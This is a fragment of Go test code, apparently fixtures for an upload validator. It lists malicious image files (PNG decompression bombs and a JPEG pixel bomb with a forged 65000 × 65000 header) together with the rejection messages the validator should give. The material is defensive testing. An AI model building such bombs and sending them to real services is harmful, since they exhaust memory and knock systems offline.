		{"cert.png", cert, pngWithDepth16(2100, 2100), "16-bit PNG of 2100 × 2100 pixels (35 MB decoded) in a few hundred bytes: a decompression bomb",
			msgBomb(cert, 2100, 2100, 1)},
		{"cert.png", cert, zeros16, "16-bit PNG of 2100 × 2100 zeros, deflated 1000 times: a decompression bomb",
			msgBomb(cert, 2100, 2100, len(zeros16)>>10)},
		{"id.jpg", idDoc, jpegWithSize(65000, 65000, false), "JPEG pixel bomb: 65000 × 65000 in the header", msgTooLargeImage(idDoc, 65000, 65000, 24)},
	}
	files := make([]BadFile, len(entries))
	for i, e := range entries {
		files[i] = BadFile{Name: e.name, Part: e.part, Data: e.data, Why: e.why, Message: e.msg,
			// Every refusal of a name, and only those, talks of the file name.
			NameCheck: strings.Contains(e.msg, "file name")}
	}
	return files
})
